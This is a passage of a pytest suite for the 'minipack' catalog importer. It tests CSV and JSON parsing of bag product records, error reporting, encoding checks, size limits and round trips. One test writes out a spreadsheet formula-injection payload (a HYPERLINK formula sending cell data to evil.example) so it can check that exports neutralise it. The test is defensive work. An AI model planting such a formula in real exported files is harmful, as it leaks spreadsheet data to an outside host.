"""Catalog files (minipack.catalog): all-or-nothing reading, exact round trips, clear refusals."""

from __future__ import annotations

import csv
import io
import json
import random
import time
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from catalog_factory import catalog_row, make_catalog_csv
from hypothesis import given, settings
from hypothesis import strategies as st

import minipack
from minipack import catalog
from minipack.catalog import (
    CSV_COLUMNS,
    Catalog,
    ImportRecord,
    bundled_catalog,
    claim_from_text,
    claim_to_text,
    dump_catalog_csv,
    dump_catalog_json,
    merge_records,
    parse_catalog_csv,
    parse_catalog_json,
    read_catalog_file,
)
from minipack.errors import ImportRowError, MinipackError, ParseError, RowProblem, RuleDataError, SpecError
from minipack.records import CATEGORIES, FEATURES, Claim, ClaimKind, Product, Source, SourceDate
from minipack.units import (
    CURRENCIES,
    MAX_LENGTH_MM,
    MAX_PRICE_MAJOR,
    MAX_VOLUME_ML,
    MAX_WEIGHT_G,
    Capacity,
    Dimensions,
    Money,
    format_dimensions,
    format_price,
    format_volume,
    format_weight,
    parse_dimensions,
    parse_price,
)

SHOP = Source("Test Shop", ClaimKind.RETAILER, SourceDate.parse("2024-05-01"), "https://shop.example/a")
ARTICLE = Source("Top 10 mini backpacks", ClaimKind.ARTICLE, SourceDate.parse("undated"))


def csv_bytes(rows: list[dict[str, str]], columns: Iterable[str] = CSV_COLUMNS) -> bytes:
    """A CSV file from dicts (missing cells empty), through the csv module so quoting is right."""
    cols = list(columns)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(cols)
    for row in rows:
        writer.writerow([row.get(c, "") for c in cols])
    return buffer.getvalue().encode()


def problems_of(excinfo: pytest.ExceptionInfo[ImportRowError]) -> list[RowProblem]:
    return excinfo.value.problems


def canonical(products: Iterable[Product]) -> dict[str, Any]:
    """What must survive a round trip: identity, aliases and every claim's value, source and note (order aside)."""
    return {
        p.slug: (
            p.brand,
            p.model,
            p.category,
            p.colourways,
            p.aliases,
            frozenset((c.field, c.value, c.source, c.note) for c in p.claims),
        )
        for p in products
    }


def bag(slug: str = "kanken-mini", *claims: Claim, category: str = "backpack", **kw: Any) -> Product:
    return Product(slug, kw.pop("brand", "Fjällräven"), kw.pop("model", "Kånken Mini"), category, claims, **kw)


# --------------------------------------------------------------------------- the 1,000-row file (RELIABILITY 37)


def test_a_clean_1000_row_file_gives_1000_records_quickly() -> None:
    data = make_catalog_csv(1000)
    started = time.perf_counter()
    records = parse_catalog_csv(data, name="bags.csv")
    elapsed = time.perf_counter() - started
    assert len(records) == 1000
    assert [r.line for r in records] == list(range(2, 1002))  # the header is line 1
    assert records[733].product.slug == "test-bag-000734"
    assert elapsed < 1.0, f"1,000 rows took {elapsed:.2f} s"


def test_every_bad_row_is_reported_and_nothing_is_returned() -> None:
    data = make_catalog_csv(1000, bad={734: ("price", "$2,49O"), 901: ("exterior", "10 x 13 in")})
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(data, name="bags.csv")
    with pytest.raises(ParseError) as price_error:
        parse_price("$2,49O")
    with pytest.raises(ParseError) as size_error:
        parse_dimensions("10 x 13 in")
    assert problems_of(excinfo) == [
        RowProblem(735, "price", "$2,49O", price_error.value.reason),
        RowProblem(902, "exterior", "10 x 13 in", size_error.value.reason),
    ]
    assert excinfo.value.source == "bags.csv"
    message = str(excinfo.value)
    assert "2 problem(s), nothing imported" in message
    assert "line 735, column 'price': '$2,49O': the letter 'O' stands where a digit should" in message


def test_a_row_with_several_problems_reports_each() -> None:
    row = catalog_row(1) | {"price": "$1,00", "weight": "0 g", "features": "usb", "source_kind": "shop"}
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes([catalog_row(2), row]), name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [
        (3, "weight"),
        (3, "features"),
        (3, "price"),
        (3, "source_kind"),
    ]


# --------------------------------------------------------------------------- CSV edge cases (RELIABILITY 40)


def test_a_utf8_bom_is_accepted() -> None:
    data = make_catalog_csv(5)
    assert parse_catalog_csv(b"\xef\xbb\xbf" + data, name="f.csv") == parse_catalog_csv(data, name="f.csv")


def test_crlf_line_ends_read_the_same() -> None:
    data = make_catalog_csv(5)
    assert parse_catalog_csv(data.replace(b"\n", b"\r\n"), name="f.csv") == parse_catalog_csv(data, name="f.csv")


def test_a_quoted_comma_stays_in_its_cell() -> None:
    rows = [catalog_row(1) | {"material": "Nylon, polyester lining"}]
    data = csv_bytes(rows)
    assert b'"Nylon, polyester lining"' in data
    (record,) = parse_catalog_csv(data, name="f.csv")
    assert record.product.value("material") == "Nylon, polyester lining"


def test_a_quoted_comma_in_a_size_is_one_cell_and_refused_as_a_size() -> None:
    # RELIABILITY 40's example: the comma must not shift the columns, and the size itself is not a size.
    rows = [catalog_row(1) | {"exterior": "10 x 13 x 4.5 in, black"}]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert (problem.line, problem.column, problem.raw) == (2, "exterior", "10 x 13 x 4.5 in, black")


def test_an_embedded_newline_keeps_later_line_numbers_right() -> None:
    rows = [catalog_row(1), catalog_row(2) | {"material": "Nylon\nwith a\r\ncotton lining"}, catalog_row(3)]
    records = parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [r.line for r in records] == [2, 3, 6]  # row 2 spans lines 3-5
    assert records[1].product.value("material") == "Nylon\nwith a\r\ncotton lining"
    rows.append(catalog_row(4) | {"price": "$-5"})
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [(7, "price")]


def test_a_latin1_file_is_refused_clearly_without_mojibake() -> None:
    data = make_catalog_csv(4).decode().encode("latin-1")  # row 4 is by Côte&Ciel
    at = next(i for i, byte in enumerate(data) if byte >= 0x80)
    assert data[at : at + 1].decode("latin-1") == "ô"
    with pytest.raises(RuleDataError) as excinfo:
        parse_catalog_csv(data, name="latin.csv")
    message = str(excinfo.value)
    assert f"latin.csv: not UTF-8 (looks like Latin-1?) at byte {at} (line 5)" in message
    assert "0xF4" in message and "'ô'" in message
    assert "Ã" not in message and "\ufffd" not in message  # no mojibake, no replacement characters


def test_a_windows_1252_quote_is_named_as_such() -> None:
    data = csv_bytes([catalog_row(1)]).replace(b"Mini 1", b"Mini \x92s")
    with pytest.raises(RuleDataError, match=r"looks like Windows-1252\?.*0x92.*'’'"):
        parse_catalog_csv(data, name="f.csv")


def test_utf16_and_nul_bytes_are_refused() -> None:
    text = make_catalog_csv(2).decode()
    with pytest.raises(RuleDataError, match="UTF-16"):
        parse_catalog_csv(text.encode("utf-16"), name="f.csv")
    with pytest.raises(RuleDataError, match="NUL byte"):
        parse_catalog_csv(text.encode("utf-16-le"), name="f.csv")


def test_formula_cells_are_neutralised_on_export_and_round_trip() -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    product = bag(
        "formula-bag",
        claim_from_text("material", hyperlink, SHOP),
        claim_from_text("price", "$49.99", SHOP),
        brand="@Home",
        model="+Plus -Minus",
        colourways=("-Dash", "'=already quoted"),
    )
    text = dump_catalog_csv([product])
    cells = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "formula-bag" and r[-1] == "retailer")
    row = dict(zip(CSV_COLUMNS, cells, strict=True))
    assert row["material"] == "'" + hyperlink
    assert row["brand"] == "'@Home" and row["model"] == "'+Plus -Minus"
    assert row["colourways"] == "'-Dash; '=already quoted"
    # The product has no category claim, so the export adds a row without a source that sets its category.
    assert [r.line for r in parse_catalog_csv(text.encode(), name="export.csv")] == [2, 3]
    assert merge_records(parse_catalog_csv(text.encode(), name="export.csv")).products == (product,)


def test_a_hand_written_apostrophe_is_only_stripped_before_a_formula_character() -> None:
    rows = [catalog_row(1) | {"model": "'=Mini", "material": "'Tis nylon"}]
    (record,) = parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert record.product.model == "=Mini"
    assert record.product.value("material") == "'Tis nylon"


def test_an_unknown_column_is_refused_with_a_suggestion() -> None:
    data = csv_bytes([catalog_row(1)], [*CSV_COLUMNS, "colour"])
    with pytest.raises(RuleDataError, match=r"line 1 \(the header\): unknown column\(s\) 'colour' \(did you mean"):
        parse_catalog_csv(data, name="f.csv")


def test_a_missing_required_column_is_refused() -> None:
    columns = [c for c in CSV_COLUMNS if c != "source_kind"]
    with pytest.raises(RuleDataError, match=r"missing required column\(s\) 'source_kind'"):
        parse_catalog_csv(csv_bytes([catalog_row(1)], columns), name="f.csv")


def test_value_columns_may_be_left_out_and_header_case_is_ignored() -> None:
    columns = ["Slug", "brand", "model", "category", " price ", "source_title", "source_date", "source_kind"]
    data = csv_bytes([catalog_row(1)], [c.strip().lower() for c in columns]).replace(
        b"slug,brand,model,category,price", b"Slug,brand,model,category, price "
    )
    (record,) = parse_catalog_csv(data, name="prices.csv")
    assert [c.field for c in record.product.claims] == ["category", "price"]


@pytest.mark.parametrize(
    ("date", "reason"),
    [
        ("13/01/2024", "expected YYYY-MM-DD"),
        ("2024-1-5", "expected YYYY-MM-DD"),
        ("2024-13-01", "not a real date"),
        ("1066", "implausible year"),
        ("", "write 'undated'"),
    ],
)
def test_a_bad_source_date_is_a_problem(date: str, reason: str) -> None:
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes([catalog_row(1) | {"source_date": date}]), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert (problem.line, problem.column, problem.raw) == (2, "source_date", date)
    assert reason in problem.reason


@pytest.mark.parametrize("date", ["2024", "2024-05", "2024-05-01", "2020 (page title)", "undated (bought 2018)"])
def test_source_dates_in_the_documented_forms_are_read(date: str) -> None:
    (record,) = parse_catalog_csv(csv_bytes([catalog_row(1) | {"source_date": date}]), name="f.csv")
    assert record.product.claims[0].source.date == SourceDate.parse(date)


def test_a_bad_source_kind_is_a_problem_naming_the_kinds() -> None:
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes([catalog_row(1) | {"source_kind": "shop"}]), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert problem.column == "source_kind" and problem.raw == "shop"
    assert "manufacturer, measured, retailer, review, article, derived" in problem.reason


def test_an_unknown_feature_is_a_problem_with_a_suggestion() -> None:
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes([catalog_row(1) | {"features": "rain_flap; Front pocket"}]), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert problem.column == "features"
    assert "unknown feature 'Front pocket' (did you mean 'front_pocket'?)" in problem.reason


def test_a_value_needs_a_source_title_and_a_bad_url_is_a_problem() -> None:
    rows = [
        catalog_row(1) | {"source_title": ""},
        catalog_row(2) | {"source_url": "shop.example/2"},
    ]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [(2, "source_title"), (3, "source_url")]


def test_empty_cells_mean_no_claim() -> None:
    row = {
        "slug": "a-bag",
        "brand": "B",
        "model": "A",
        "category": "",
        "price": "$10",
        "source_title": "Shop",
        "source_date": "undated",
        "source_kind": "retailer",
    }
    sourceless = {"slug": "a-bag", "brand": "B", "model": "A", "category": "sling"}
    records = parse_catalog_csv(csv_bytes([sourceless, row]), name="f.csv")
    assert [[c.field for c in r.product.claims] for r in records] == [[], ["price"]]
    assert {r.product.category for r in records} == {"sling"}


def test_the_category_cell_is_the_sources_claim_and_a_sourceless_row_sets_the_catalog_category() -> None:
    base = {"slug": "provence", "brand": "Baggallini", "model": "Provence Crossbody"}
    rows = [
        base | {"category": "crossbody"},
        base | {"category": "backpack", "price": "$88", "source_title": "Top 10", "source_date": "undated"},
        base | {"category": "", "price": "$79", "source_title": "Shop", "source_date": "2024-05"},
    ]
    rows[1]["source_kind"], rows[2]["source_kind"] = "article", "retailer"
    (product,) = merge_records(parse_catalog_csv(csv_bytes(rows), name="f.csv"))
    assert product.category == "crossbody"
    assert [(c.field, c.value, c.source.title) for c in product.claims_for("category")] == [
        ("category", "backpack", "Top 10")
    ]


def test_rows_that_disagree_on_the_category_need_a_sourceless_row() -> None:
    other_source = {"source_title": "Another shop", "source_url": ""}
    rows = [catalog_row(1) | {"category": "backpack"}, catalog_row(1) | {"category": "sling"} | other_source]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert (problem.line, problem.column, problem.raw) == (3, "category", "sling")
    assert "add a row without a source" in problem.reason


def test_a_product_needs_a_category_somewhere() -> None:
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes([catalog_row(1) | {"category": ""}]), name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [(2, "category")]


def test_conflicting_brand_and_a_second_sourceless_row_are_problems() -> None:
    identity = {"slug": "test-bag-000001", "brand": "Herschel Supply Co.", "model": "Mini 1"}
    rows = [
        catalog_row(1),
        catalog_row(1) | {"brand": "Someone Else", "source_title": "Another shop", "source_url": ""},
        identity | {"category": "convertible"},
        identity | {"category": "convertible"},  # a second row without a source for the same slug
    ]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [(3, "brand"), (5, "source_title")]
    assert "without a source on line 4" in problems_of(excinfo)[1].reason


def only(row: dict[str, str], *columns: str) -> dict[str, str]:
    """The identity and source cells of ``row`` plus the named value cells (the others left empty)."""
    keep = ("slug", "brand", "model", "source_title", "source_url", "source_date", "source_kind", *columns)
    return {c: v for c, v in row.items() if c in keep}


def test_rows_of_one_slug_and_source_merge_into_one_record_at_the_first_line() -> None:
    rows = [
        catalog_row(1) | {"note": "From the product page."},
        catalog_row(2),
        only(catalog_row(1), "price") | {"price": "$29.99", "note": "In the summer sale."},
        only(catalog_row(1), "material"),  # the same material, but no note: a different claim
    ]
    records = parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [(r.line, r.product.slug) for r in records] == [(2, "test-bag-000001"), (3, "test-bag-000002")]
    claims = records[0].product.claims
    assert [(c.field, c.published, c.note) for c in claims if c.field in ("price", "material")] == [
        ("material", "Nylon, polyester lining", "From the product page."),
        ("price", "$31.01", "From the product page."),
        ("price", "$29.99", "In the summer sale."),
        ("material", "Nylon, polyester lining", ""),
    ]
    assert all(c.note == "From the product page." for c in claims[:7])
    assert len({c.source for c in claims}) == 1


def test_an_exactly_repeated_claim_is_refused_naming_both_lines() -> None:
    rows = [
        catalog_row(1) | {"note": "list price"},
        catalog_row(2),
        only(catalog_row(1), "price") | {"price": " $31.01", "note": "list price"},  # the same claim again
        only(catalog_row(1), "price") | {"price": "$31.01"},  # the same price without the note: fine
    ]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert (problem.line, problem.column, problem.raw) == (4, "price", " $31.01")
    assert "'test-bag-000001' already has this price from this source, with the same note, on line 2" in (
        problem.reason
    )


def test_rows_of_one_source_must_write_it_the_same_way() -> None:
    rows = [catalog_row(1), only(catalog_row(1), "price") | {"price": "$1", "source_title": "Test Shop (mobile)"}]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert (problem.line, problem.column, problem.raw) == (3, "source_title", "Test Shop (mobile)")
    assert "titled 'Test Shop product page 1' on line 2" in problem.reason


def test_rows_of_one_slug_that_disagree_on_colourways_or_aliases_are_problems() -> None:
    other = {"source_title": "Another shop", "source_url": ""}
    rows = [
        catalog_row(1) | {"aliases": "Mini One; HSC Mini"},
        catalog_row(1) | other | {"colourways": "Black", "aliases": "Mini One"},
        catalog_row(1) | other | {"source_title": "A third shop", "colourways": "", "aliases": ""},  # says nothing
    ]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [(p.line, p.column, p.raw) for p in problems_of(excinfo)] == [
        (3, "colourways", "Black"),
        (3, "aliases", "Mini One"),
    ]
    assert "has aliases 'Mini One; HSC Mini' on line 2" in problems_of(excinfo)[1].reason
    rows[1] |= {"colourways": "", "aliases": ""}
    records = parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert {r.product.aliases for r in records} == {("Mini One", "HSC Mini")}
    assert {r.product.colourways for r in records} == {("Black", "Frost Green")}


def test_a_note_on_a_row_without_claims_is_a_problem() -> None:
    identity = {"slug": "a-bag", "brand": "B", "model": "A"}
    source = {"source_title": "Shop", "source_date": "undated", "source_kind": "retailer"}
    rows = [
        identity | {"category": "sling", "note": "why sling"},  # no source: the category is not a claim
        identity | source | {"price": "$5"},
        identity | source | {"source_title": "Other shop", "note": "nothing said"},
    ]
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes(rows), name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [(2, "note"), (4, "note")]


def test_a_file_without_the_aliases_and_note_columns_still_reads() -> None:
    data = make_catalog_csv(3)
    assert data.splitlines()[0] == b",".join(c.encode() for c in CSV_COLUMNS if c not in ("aliases", "note"))
    records = parse_catalog_csv(data, name="old.csv")
    assert [r.line for r in records] == [2, 3, 4]
    assert all(not r.product.aliases and all(not c.note for c in r.product.claims) for r in records)


def test_a_bad_slug_suggests_one() -> None:
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(csv_bytes([catalog_row(1) | {"slug": "Fjällräven Mini!"}]), name="f.csv")
    (problem,) = problems_of(excinfo)
    assert problem.column == "slug"
    assert "for this bag: 'herschel-supply-co-mini-1'" in problem.reason


def test_a_row_with_the_wrong_number_of_cells_is_a_problem() -> None:
    data = make_catalog_csv(2) + b"test-bag-3,Kipling,Mini 3,backpack\n"
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_csv(data, name="f.csv")
    assert [(p.line, p.column) for p in problems_of(excinfo)] == [(4, "(row)")]


def test_blank_lines_are_skipped_and_counted() -> None:
    lines = make_catalog_csv(2).split(b"\n")
    data = b"\n".join([lines[0], b"", lines[1], b",,,,,,,,,,,,,,", lines[2]])
    assert [r.line for r in parse_catalog_csv(data, name="f.csv")] == [3, 5]


def test_malformed_quoting_and_empty_files_are_file_level_errors() -> None:
    with pytest.raises(RuleDataError, match=r"f.csv: line \d+: malformed CSV"):
        parse_catalog_csv(make_catalog_csv(2) + b'test-bag-3,"Kip"ling,x\n', name="f.csv")
    with pytest.raises(RuleDataError, match="empty"):
        parse_catalog_csv(b"\n\n", name="f.csv")
    assert parse_catalog_csv(make_catalog_csv(0), name="f.csv") == []


def test_too_many_rows_are_refused_before_values_are_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(catalog, "MAX_ROWS", 10)
    calls = []
    monkeypatch.setattr(catalog, "_read_value", lambda *a: calls.append(a))
    assert len(parse_catalog_csv(make_catalog_csv(10), name="f.csv")) == 10
    calls.clear()
    with pytest.raises(RuleDataError, match="more than 10 rows"):
        parse_catalog_csv(make_catalog_csv(11), name="f.csv")
    assert calls == []
    products = json.dumps({"format": "minipack-catalog/1", "sources": {}, "products": [{}] * 11})
    with pytest.raises(RuleDataError, match="more than 10 rows"):
        parse_catalog_json(products, name="f.json")


def test_files_over_20_mb_are_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as f:
        f.truncate(catalog.MAX_FILE_BYTES + 1)  # sparse: costs no disk
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read a file over the limit"))
    with pytest.raises(RuleDataError, match="big.csv: 20.0 MB is over the 20 MB limit"):
        read_catalog_file(big)
    monkeypatch.setattr(catalog, "MAX_FILE_BYTES", 100)
    with pytest.raises(RuleDataError, match="over the 0 MB limit"):
        parse_catalog_csv(make_catalog_csv(2), name="f.csv")
    with pytest.raises(RuleDataError, match="over the 0 MB limit"):
        parse_catalog_json("[" + " " * 200 + "]", name="f.json")


# --------------------------------------------------------------------------- read_catalog_file


def test_read_catalog_file_picks_the_format_by_extension(tmp_path: Path) -> None:
    products = [r.product for r in parse_catalog_csv(make_catalog_csv(3), name="f.csv")]
    (tmp_path / "a.CSV").write_text(dump_catalog_csv(products), encoding="utf-8")
    (tmp_path / "a.json").write_text(dump_catalog_json(products), encoding="utf-8")
    assert [r.product for r in read_catalog_file(tmp_path / "a.CSV")] == products
    assert canonical(r.product for r in read_catalog_file(tmp_path / "a.json")) == canonical(products)
    (tmp_path / "a.txt").write_text("x")
    with pytest.raises(RuleDataError, match=r"a.txt: unknown catalog file type '.txt'; use .csv or .json"):
        read_catalog_file(tmp_path / "a.txt")
    with pytest.raises(RuleDataError, match="cannot read the file"):
        read_catalog_file(tmp_path / "missing.csv")


def test_read_catalog_file_names_the_file_in_row_errors(tmp_path: Path) -> None:
    path = tmp_path / "upload.csv"
    path.write_bytes(make_catalog_csv(3, bad={2: ("weight", "heavy")}))
    with pytest.raises(ImportRowError) as excinfo:
        read_catalog_file(path)
    assert excinfo.value.source == "upload.csv"
    assert isinstance(excinfo.value, MinipackError)


def test_progress_shows_a_bar_on_stderr(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "bags.csv"
    path.write_bytes(make_catalog_csv(50))
    assert len(read_catalog_file(path, progress=True)) == 50
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "bags.csv" in captured.err and "50/50" in captured.err
    read_catalog_file(path)
    assert capsys.readouterr().err == ""


# --------------------------------------------------------------------------- JSON


def json_doc(*products: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {
        "format": "minipack-catalog/1",
        "sources": {
            "shop": {"title": "Test Shop", "url": "https://shop.example/a", "date": "2024-05-01", "kind": "retailer"},
            "article": {"title": "Top 10 mini backpacks", "url": "", "date": "undated", "kind": "article"},
        },
        "products": list(products),
        **extra,
    }


KANKEN = {
    "slug": "kanken-mini",
    "brand": "Fjällräven",
    "model": "Kånken Mini",
    "category": "backpack",
    "colourways": ["Black", "Frost Green"],
    "aliases": ["Kanken Mini"],
    "claims": [
        {"field": "exterior", "value": "7.87 x 11.42 x 5 in", "source": "article"},
        {"field": "features", "value": ["front_pocket", "rain_flap"], "source": "article"},
        {"field": "price", "value": "$70", "source": "shop", "note": "list price"},
    ],
}


def test_json_dump_then_parse_gives_back_the_same_claims() -> None:
    claims = (
        claim_from_text("exterior", "8 W x 11 H x 4.75 D in", SHOP),
        claim_from_text("exterior", "20 x 29 x 13 cm", ARTICLE, note="from the table"),
        claim_from_text("capacity", "5-7 L", ARTICLE),
        claim_from_text("weight", "7.68 oz", SHOP),
        claim_from_text("material", "Vinylon F", SHOP),
        claim_from_text("features", ["rain_flap", "front_pocket"], SHOP),
        claim_from_text("price", "€59,99", SHOP),
        claim_from_text("category", "backpack", ARTICLE),
    )
    product = bag("kanken-mini", *claims, colourways=("Black",), aliases=("Kanken Mini",))
    (record,) = parse_catalog_json(dump_catalog_json([product]), name="x.json")
    assert set(record.product.claims) == set(claims)  # published text and notes included
    assert len(record.product.claims) == len(claims)
    assert record.product == bag("kanken-mini", *record.product.claims, colourways=("Black",), aliases=("Kanken Mini",))


def test_json_reads_the_documented_example() -> None:
    (record,) = parse_catalog_json(json.dumps(json_doc(KANKEN), indent=2), name="x.json")
    product = record.product
    assert product.value("exterior").mm == (200, 290, 127)
    assert product.value("features") == frozenset({"front_pocket", "rain_flap"})
    assert product.chosen("price").note == "list price"
    assert product.colourways == ("Black", "Frost Green") and product.aliases == ("Kanken Mini",)


def test_json_problems_carry_the_path_and_line() -> None:
    bad = dict(KANKEN, colour="red")
    bad["claims"] = [
        KANKEN["claims"][0],
        {"field": "price", "value": 49.99, "source": "shop"},
        {"field": "weight", "value": "220 g", "source": "blog"},
        {"field": "size", "value": "7 L", "source": "shop", "comment": "x"},
    ]
    text = json.dumps(json_doc(KANKEN | {"slug": "ok-bag"}, bad), indent=2)
    lines = text.splitlines()
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_json(text, name="x.json")
    found = {(p.column, p.raw): p for p in problems_of(excinfo)}
    assert set(found) == {
        ("products[1].colour", "red"),
        ("products[1].claims[1].value", "49.99"),
        ("products[1].claims[2].source", "blog"),
        ("products[1].claims[3].field", "size"),
        ("products[1].claims[3].comment", "x"),
    }
    assert found[("products[1].claims[1].value", "49.99")].reason == "expected text, got a number"
    assert "unknown source id" in found[("products[1].claims[2].source", "blog")].reason
    assert "unknown key" in found[("products[1].colour", "red")].reason
    # Each problem's line is where its product or claim starts.
    assert lines[found[("products[1].colour", "red")].line - 1].strip() == "{"
    assert "49.99" in lines[found[("products[1].claims[1].value", "49.99")].line - 1 + 2]
    assert '"blog"' in lines[found[("products[1].claims[2].source", "blog")].line - 1 + 3]


def test_json_record_lines_are_where_each_product_starts() -> None:
    products = [r.product for r in parse_catalog_csv(make_catalog_csv(20), name="f.csv")]
    text = dump_catalog_json(products)
    lines = text.splitlines()
    for record in parse_catalog_json(text, name="x.json"):
        assert lines[record.line - 1].strip() == "{"
        assert record.product.slug in lines[record.line]


def test_json_refuses_bad_sources_and_repeated_keys_and_slugs() -> None:
    doc = json_doc(KANKEN, KANKEN)
    doc["sources"]["shop"]["kind"] = "shop"
    doc["sources"]["blog"] = {"title": "", "date": "2024-13", "kind": "review", "rating": 5}
    text = json.dumps(doc).replace('"brand": "Fj', '"brand": "X", "brand": "Fj', 1)
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_json(text, name="x.json")
    columns = sorted(p.column for p in problems_of(excinfo))
    assert columns == [
        "products[0].brand",  # given twice
        "products[1].slug",  # the same product twice
        "sources.blog.date",
        "sources.blog.rating",
        "sources.blog.title",
        "sources.shop.kind",
    ]


def test_json_file_level_errors() -> None:
    with pytest.raises(RuleDataError, match=r"x.json: malformed JSON at line 3, column 1"):
        parse_catalog_json('{"format":\n "minipack-catalog/1",\n}', name="x.json")
    with pytest.raises(RuleDataError, match=r"format 'minipack-catalog/2'; expected \"format\": 'minipack-catalog/1'"):
        parse_catalog_json(json.dumps(json_doc() | {"format": "minipack-catalog/2"}), name="x.json")
    with pytest.raises(RuleDataError, match='no "format"'):
        parse_catalog_json(json.dumps({"sources": {}, "products": []}), name="x.json")
    with pytest.raises(RuleDataError, match="top level must be an object"):
        parse_catalog_json("[]", name="x.json")
    with pytest.raises(RuleDataError, match='"products" must be a list'):
        parse_catalog_json(json.dumps(json_doc() | {"products": {}}), name="x.json")
    with pytest.raises(RuleDataError, match="NaN is not a JSON number"):
        parse_catalog_json('{"format": NaN}', name="x.json")
    with pytest.raises(RuleDataError, match="not UTF-8"):
        parse_catalog_json(json.dumps(json_doc(KANKEN), ensure_ascii=False).encode("latin-1"), name="x.json")
    with pytest.raises(RuleDataError, match="malformed JSON"):
        parse_catalog_json("[" * 100_000, name="x.json")


def test_json_unknown_top_level_key_is_a_problem() -> None:
    with pytest.raises(ImportRowError) as excinfo:
        parse_catalog_json(json.dumps(json_doc(KANKEN, about="x"), indent=1), name="x.json")
    (problem,) = problems_of(excinfo)
    assert (problem.column, problem.raw) == ("about", "x")


# --------------------------------------------------------------------------- claim_from_text / claim_to_text


def test_claim_from_text_reads_every_field() -> None:
    assert claim_from_text("exterior", " 20 x 29 x 13 cm ", SHOP).value == Dimensions((200, 290, 130), None, "cm")
    assert claim_from_text("exterior", " 20 x 29 x 13 cm ", SHOP).published == "20 x 29 x 13 cm"
    assert claim_from_text("capacity", "427 cu in", SHOP).value == Capacity(6997, 6997)
    assert claim_from_text("weight", "7.68 oz", SHOP).value == 218
    assert claim_from_text("price", "$2,490", SHOP).value == Money(249000, "USD")
    assert claim_from_text("material", "Vinylon F", SHOP, note="n").note == "n"
    assert claim_from_text("category", "Crossbody", SHOP).value == "crossbody"
    features = claim_from_text("features", "rain_flap;front_pocket; rain_flap;", SHOP)
    assert features.value == frozenset({"rain_flap", "front_pocket"})
    assert claim_to_text(features) == ["rain_flap", "front_pocket"]


@pytest.mark.parametrize(
    ("field", "value", "error"),
    [
        ("exterior", "10 x 13 in", ParseError),
        ("price", "$1,00", ParseError),
        ("colour", "red", SpecError),
        ("material", "  ", SpecError),
        ("category", "tote", SpecError),
        ("features", [], SpecError),
        ("features", ["front_pocket", 3], SpecError),
        ("price", ["$1"], SpecError),
    ],
)
def test_claim_from_text_refuses(field: str, value: Any, error: type[Exception]) -> None:
    with pytest.raises(error):
        claim_from_text(field, value, SHOP)


def test_claim_to_text_prefers_the_published_text_only_when_it_reads_back_to_the_value() -> None:
    dims = Dimensions((200, 290, 127), ("W", "H", "D"), "in")
    assert claim_to_text(Claim("exterior", dims, SHOP, published="7.87 W x 11.42 H x 5 D in")) == (
        "7.87 W x 11.42 H x 5 D in"
    )
    # A published text that says something else (or nothing readable) loses to the value.
    assert claim_to_text(Claim("exterior", dims, SHOP, published="about 8 x 11 x 5 in")) == "7.87 W x 11.42 H x 5 D in"
    assert claim_to_text(Claim("exterior", Dimensions((200, 290, 127)), SHOP)) == "200 x 290 x 127 mm"
    assert claim_to_text(Claim("weight", 218, SHOP)) == "218 g"
    assert claim_to_text(Claim("features", frozenset({"rain_flap", "front_pocket"}), SHOP)) == [
        "front_pocket",
        "rain_flap",
    ]


# --------------------------------------------------------------------------- merging, writing


def test_merge_records_joins_claims_without_repeats_and_takes_the_last_identity() -> None:
    price = claim_from_text("price", "$70", SHOP)
    records = [
        ImportRecord(2, bag("b", price, brand="Old", colourways=("Black",))),
        ImportRecord(3, bag("a", claim_from_text("price", "$1", SHOP))),
